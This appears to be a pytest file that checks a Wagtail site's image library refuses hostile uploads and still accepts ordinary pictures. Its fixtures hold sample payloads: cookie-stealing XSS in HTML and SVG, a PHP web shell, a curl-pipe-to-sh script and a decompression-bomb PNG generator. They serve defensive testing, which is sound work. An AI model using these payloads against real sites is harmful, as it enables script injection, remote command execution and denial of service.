"""Hostile files sent to the image library are refused with a message in the editor's own
language, through each way in (add one, add several, the chooser's upload, replace an image's
file), leaving nothing behind: no image in the database, no file in media. Ordinary pictures
still go in.

Every file is made here, with Pillow (the decompression bomb with zlib: Pillow would need
400 MB of memory to draw it)."""

import functools
import html
import importlib.util
import io
import os
import struct
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.template.defaultfilters import filesizeformat
from django.urls import reverse
from django.utils import translation
from PIL import Image as PILImage
from wagtail.models import Collection

from action_portugal.factories import SiteImageFactory
from action_portugal.models import SiteImage

pytestmark = pytest.mark.django_db

MB = 1024 * 1024


def encoded(image_format, size=(64, 48), frames=1, mode="RGB", **options):
    """A picture in ``image_format``; with ``frames``, an animation whose frames differ (equal
    frames would be merged into one by the encoder)."""
    shades = [(40 * n) % 256 for n in range(frames)]
    images = [
        PILImage.new(mode, size, (shade, 128, 255 - shade) if mode == "RGB" else shade)
        for shade in shades
    ]
    if frames > 1:
        options.update(save_all=True, append_images=images[1:], duration=100, loop=0)
    buffer = io.BytesIO()
    images[0].save(buffer, image_format, **options)
    return buffer.getvalue()


def noise(image_format, size, **options):
    buffer = io.BytesIO()
    PILImage.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3)).save(
        buffer, image_format, **options
    )
    return buffer.getvalue()


@functools.cache
def over_the_size_limit():
    # 1900 x 1900 x 3 bytes, stored without compression: 10.3 MiB.
    return noise("PNG", (1900, 1900), compress_level=0)


@functools.cache
def over_the_pixel_limit():
    return encoded("PNG", (8000, 5001), mode="L")  # 40,008,000 pixels, a few kB


@functools.cache
def decompression_bomb():
    """A true PNG of 20000 x 20000 black pixels (400 million) in about 50 kB."""
    width = height = 20_000
    row = b"\x00" * (1 + width // 8)  # filter byte, then 1 bit per pixel
    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(row * 1000) for _ in range(height // 1000))
    data += compressor.flush()

    def chunk(kind, body):
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    )


@functools.cache
def truncated(image_format, **options):
    whole = noise(image_format, (256, 256), **options)
    return whole[: len(whole) // 2]


@functools.cache
def truncated_animation():
    """The first frame whole, the last one cut short."""
    frames = [PILImage.frombytes("RGB", (128, 128), os.urandom(128 * 128 * 3)) for _ in range(4)]
    buffer = io.BytesIO()
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:], duration=100)
    whole = buffer.getvalue()
    return whole[: len(whole) - len(whole) // 8]


SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="64" height="48">'
    b"<script>alert(document.cookie)</script></svg>"
)
SUPPORTED = "GIF, JPG, JPEG, PNG, WEBP, AVIF"

# Each message in English and in Portuguese, as the editor reads it.
NOT_AN_IMAGE = (
    "Upload a valid image. The file you uploaded was either not an image or a corrupted image.",
    "Introduza uma imagem válida. O ficheiro que introduziu ou não é uma imagem ou está "
    "corrompido.",
)
EMPTY = ("The submitted file is empty.", "O ficheiro submetido encontra-se vazio.")
NOT_SUPPORTED = (
    f"Not a supported image format. Supported formats: {SUPPORTED}.",
    f"Formato de imagem não suportado. Formatos suportados: {SUPPORTED}.",
)
DAMAGED = (
    "This image file is damaged or incomplete: it cannot be read in full.",
    "Este ficheiro de imagem está danificado ou incompleto: não pode ser lido por inteiro.",
)


def mismatch(extension, image_format):
    return (
        f"The file is not a .{extension} image: its content is in the {image_format} format.",
        f"O ficheiro não é uma imagem .{extension}: o conteúdo está no formato {image_format}.",
    )


def too_many_pixels(limit, pixels=None):
    """Pillow does not say how many pixels a picture has when it refuses it as a bomb."""
    en, pt = (pixels, pixels) if pixels else ("unknown number", "número desconhecido")
    return (
        f"This file has too many pixels ({en}). Maximum pixels {limit}.",
        f"O ficheiro tem demasiados píxeis ({pt}). O máximo de píxeis é {limit}.",
    )


def too_big(content):
    sizes = {}
    for language in ("en", "pt"):
        with translation.override(language):
            sizes[language] = filesizeformat(len(content)), filesizeformat(10 * MB)
    return (
        "This file is too big ({}). Maximum filesize {}.".format(*sizes["en"]),
        "Este ficheiro é demasiado grande ({}). Tamanho máximo {}.".format(*sizes["pt"]),
    )


HOSTILE = {
    "over the size limit": (
        "holiday.png",
        over_the_size_limit,
        lambda: too_big(over_the_size_limit()),
    ),
    "over the pixel limit": (
        "panorama.png",
        over_the_pixel_limit,
        lambda: too_many_pixels(40_000_000, 40_008_000),
    ),
    "decompression bomb": (
        "bomb.png",
        decompression_bomb,
        lambda: too_many_pixels(40_000_000),
    ),
    "HTML named .jpg": (
        "photo.jpg",
        lambda: b"<html><body><img src=x onerror=alert(document.cookie)></body></html>",
        lambda: NOT_AN_IMAGE,
    ),
    # Well-formed XML: Willow takes it for an SVG.
    "XHTML named .jpg": (
        "photo.jpg",
        lambda: b"<html><body><script>alert(document.cookie)</script></body></html>",
        lambda: mismatch("jpeg", "svg"),
    ),
    "PHP named .jpg": (
        "photo.jpg",
        lambda: b"<?php system($_GET['c']); ?>",
        lambda: NOT_AN_IMAGE,
    ),
    "shell script named .jpg": (
        "photo.jpg",
        lambda: b"#!/bin/sh\ncurl -s https://example.org/x | sh\n",
        lambda: NOT_AN_IMAGE,
    ),
    "SVG": ("logo.svg", lambda: SVG, lambda: NOT_SUPPORTED),
    "SVG named .png": ("logo.png", lambda: SVG, lambda: mismatch("png", "svg")),
    "zero bytes": ("photo.jpg", lambda: b"", lambda: EMPTY),
    "truncated JPEG": (
        "photo.jpg",
        lambda: truncated("JPEG", quality=95),
        lambda: DAMAGED,
    ),
    "truncated PNG": ("photo.png", lambda: truncated("PNG"), lambda: DAMAGED),
    "animated GIF cut in its last frame": (
        "animation.gif",
        truncated_animation,
        lambda: DAMAGED,
    ),
    "PNG named .jpg": ("photo.jpg", lambda: encoded("PNG"), lambda: mismatch("jpeg", "png")),
    "JPEG named .png": ("photo.png", lambda: encoded("JPEG"), lambda: mismatch("png", "jpeg")),
    "GIF named .webp": ("photo.webp", lambda: encoded("GIF"), lambda: mismatch("webp", "gif")),
}


def contents(image):
    with image.file.open("rb") as stored:
        return stored.read()


def root_collection():
    return Collection.get_first_root_node().pk


def add_one(client, name, content):
    response = client.post(
        reverse("wagtailimages:add"),
        {
            "title": "Workshop",
            "file": upload(name, content),
            "collection": root_collection(),
            "description_pt": "Participantes num workshop",
            "description_en": "Participants at a workshop",
        },
    )
    return response, page_text(response)


def add_several(client, name, content):
    response = client.post(
        reverse("wagtailimages:add_multiple"),
        {"files[]": upload(name, content), "collection": root_collection()},
    )
    return response, response.json()


def upload(name, content):
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def page_text(response):
    return html.unescape(response.content.decode())


@pytest.mark.parametrize("language", ["en", "pt"])
@pytest.mark.parametrize("case", HOSTILE)
def test_the_add_view_refuses(case, language, editor, media):
    name, content, messages = HOSTILE[case]
    count = SiteImage.objects.count()
    response, text = add_one(editor(language), name, content())
    assert response.status_code == 200
    assert messages()[language == "pt"] in text
    assert SiteImage.objects.count() == count
    assert media() == []


@pytest.mark.parametrize("language", ["en", "pt"])
@pytest.mark.parametrize("case", HOSTILE)
def test_the_multiple_upload_refuses(case, language, editor, media):
    name, content, messages = HOSTILE[case]
    count = SiteImage.objects.count()
    response, answer = add_several(editor(language), name, content())
    assert response.status_code == 200
    assert answer == {"success": False, "error_message": messages()[language == "pt"]}
    assert SiteImage.objects.count() == count
    assert media() == []


@pytest.mark.parametrize(
    ("case", "language"), [("truncated JPEG", "pt"), ("decompression bomb", "en")]
)
def test_the_choosers_upload_in_the_page_editor_refuses(case, language, editor, media):
    name, content, messages = HOSTILE[case]
    count = SiteImage.objects.count()
    response = editor(language).post(
        reverse("wagtailimages_chooser:create"),
        {
            "image-chooser-upload-title": "Workshop",
            "image-chooser-upload-file": upload(name, content()),
            "image-chooser-upload-collection": root_collection(),
        },
    )
    assert response.status_code == 200
    answer = response.json()
    assert answer["step"] == "reshow_creation_form"
    assert messages()[language == "pt"] in html.unescape(answer["htmlFragment"])
    assert SiteImage.objects.count() == count
    assert media() == []


@pytest.mark.parametrize("case", HOSTILE)
def test_replacing_an_image_file_with_a_hostile_one_keeps_the_old_file(case, editor, media):
    name, content, messages = HOSTILE[case]
    image = SiteImageFactory()
    before = (image.file.name, image.width, image.height, contents(image))
    client = editor("pt")
    response = client.post(
        reverse("wagtailimages:edit", args=[image.pk]),
        {
            "title": image.title,
            "file": upload(name, content()),
            "collection": image.collection_id,
            "description_pt": image.description_pt,
            "description_en": image.description_en,
        },
    )
    assert response.status_code == 200
    assert messages()[1] in page_text(response)
    image.refresh_from_db()
    assert (image.file.name, image.width, image.height, contents(image)) == before
    # Nothing but the old picture and the previews the editor showed of it.
    assert media() == sorted([image.file.name, *image.renditions.values_list("file", flat=True)])
    assert image.get_rendition("width-32").width == 32  # the old picture is still whole


def test_an_animation_counts_every_frame_toward_the_pixel_limit(settings, editor, media):
    settings.WAGTAILIMAGES_MAX_IMAGE_PIXELS = 1_000_000
    client = editor("en")
    ten_frames = encoded("GIF", (400, 300), frames=10)  # 120,000 pixels a frame
    for name, content in (
        ("long.gif", ten_frames),
        ("long.webp", encoded("WEBP", (400, 300), frames=10)),
    ):
        response, answer = add_several(client, name, content)
        assert answer == {
            "success": False,
            "error_message": too_many_pixels(1_000_000, 1_200_000)[0],
        }
    response, text = add_one(client, "long.gif", ten_frames)
    assert too_many_pixels(1_000_000, 1_200_000)[0] in text
    assert not SiteImage.objects.filter(title="Workshop").exists()
    assert media() == []

    response, answer = add_several(client, "short.gif", encoded("GIF", (400, 300), frames=8))
    assert answer["success"] is True


def test_pillows_own_bomb_limit_is_a_form_error_too(settings, monkeypatch, editor, media):
    """Set above Pillow's own limit, the site's pixel limit still cannot let through what
    Pillow calls a decompression bomb: neither what it warns about nor what it refuses."""
    monkeypatch.setattr(PILImage, "MAX_IMAGE_PIXELS", 1_000_000)
    settings.WAGTAILIMAGES_MAX_IMAGE_PIXELS = 100_000_000
    client = editor("en")
    with pytest.warns(PILImage.DecompressionBombWarning):  # Pillow warns, and reads on
        response, answer = add_several(client, "big.png", encoded("PNG", (1500, 1000), mode="L"))
    assert answer == {
        "success": False,
        "error_message": too_many_pixels(1_000_000, 1_500_000)[0],
    }
    response, answer = add_several(client, "big.png", encoded("PNG", (2000, 1500), mode="L"))
    assert answer == {  # Pillow refuses
        "success": False,
        "error_message": too_many_pixels(1_000_000)[0],
    }
    assert media() == []


@functools.cache
def ordinary_pictures():
    return {
        "photo.jpg": encoded("JPEG", (320, 200), quality=85),
        "photo.jpeg": encoded("JPEG", (320, 200)),
        "diagram.png": encoded("PNG", (320, 200)),
        "photo.webp": encoded("WEBP", (320, 200)),
        "photo.avif": encoded("AVIF", (320, 200)),  # Pillow 11.2 and later write AVIF
        "still.gif": encoded("GIF", (320, 200)),
        "animation.gif": encoded("GIF", (320, 200), frames=12),
        "animation.webp": encoded("WEBP", (320, 200), frames=12),
    }


@pytest.mark.parametrize("name", list(ordinary_pictures()))
def test_ordinary_pictures_are_accepted_one_at_a_time(name, editor, media):
    response, _text = add_one(editor("pt"), name, ordinary_pictures()[name])
    assert response.status_code == 302
    image = SiteImage.objects.get(title="Workshop")
    assert (image.width, image.height) == (320, 200)
    assert media() == [image.file.name]


@pytest.mark.parametrize("name", list(ordinary_pictures()))
def test_ordinary_pictures_are_accepted_several_at_a_time(name, editor, media):
    response, answer = add_several(editor("en"), name, ordinary_pictures()[name])
    assert answer["success"] is True
    image = SiteImage.objects.get(pk=answer["image_id"])
    assert (image.width, image.height) == (320, 200)
    assert media() == [image.file.name]


def test_a_photo_of_several_megabytes_is_accepted(editor, media):
    # Over FILE_UPLOAD_MAX_MEMORY_SIZE: Django keeps it in a temporary file while it is checked.
    photo = noise("PNG", (1200, 1000), compress_level=0)
    assert 3 * MB < len(photo) < 10 * MB
    response, answer = add_several(editor("en"), "photo.png", photo)
    assert answer["success"] is True
    image = SiteImage.objects.get(pk=answer["image_id"])
    assert (image.width, image.height) == (1200, 1000)
    assert media() == [image.file.name]


def test_a_good_replacement_file_is_taken(editor, media):
    image = SiteImageFactory()
    old_file = image.file.name
    response = editor("en").post(
        reverse("wagtailimages:edit", args=[image.pk]),
        {
            "title": image.title,
            "file": upload("new.webp", encoded("WEBP", (300, 100))),
            "collection": image.collection_id,
            "description_pt": image.description_pt,
            "description_en": image.description_en,
        },
    )
    assert response.status_code == 302
    image.refresh_from_db()
    assert (image.width, image.height) == (300, 100)
    assert image.file.name != old_file
    assert media() == [image.file.name]


def test_saving_an_image_without_a_new_file_keeps_it(editor, media):
    image = SiteImageFactory()
    response = editor("en").post(
        reverse("wagtailimages:edit", args=[image.pk]),
        {
            "title": "Renamed",
            "collection": image.collection_id,
            "description_pt": image.description_pt,
            "description_en": image.description_en,
        },
    )
    assert response.status_code == 302
    image.refresh_from_db()
    assert image.title == "Renamed"
    assert media() == [image.file.name]


def base_settings():
    """A fresh reading of action_portugal/settings/base.py, with the environment as it is."""
    from action_portugal.settings import base

    spec = importlib.util.spec_from_file_location("action_portugal.settings.probe", base.__file__)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_the_limits_come_from_the_environment(monkeypatch):
    for name in ("IMAGE_MAX_UPLOAD_MB", "IMAGE_MAX_PIXELS"):
        monkeypatch.delenv(name, raising=False)
    defaults = base_settings()
    assert defaults.WAGTAILIMAGES_MAX_UPLOAD_SIZE == 10 * MB
    assert defaults.WAGTAILIMAGES_MAX_IMAGE_PIXELS == 40_000_000
    assert defaults.WAGTAILIMAGES_IMAGE_FORM_BASE == "action_portugal.files.uploads.SiteImageForm"
    monkeypatch.setenv("IMAGE_MAX_UPLOAD_MB", "25")
    monkeypatch.setenv("IMAGE_MAX_PIXELS", "60000000")
    configured = base_settings()
    assert configured.WAGTAILIMAGES_MAX_UPLOAD_SIZE == 25 * MB
    assert configured.WAGTAILIMAGES_MAX_IMAGE_PIXELS == 60_000_000
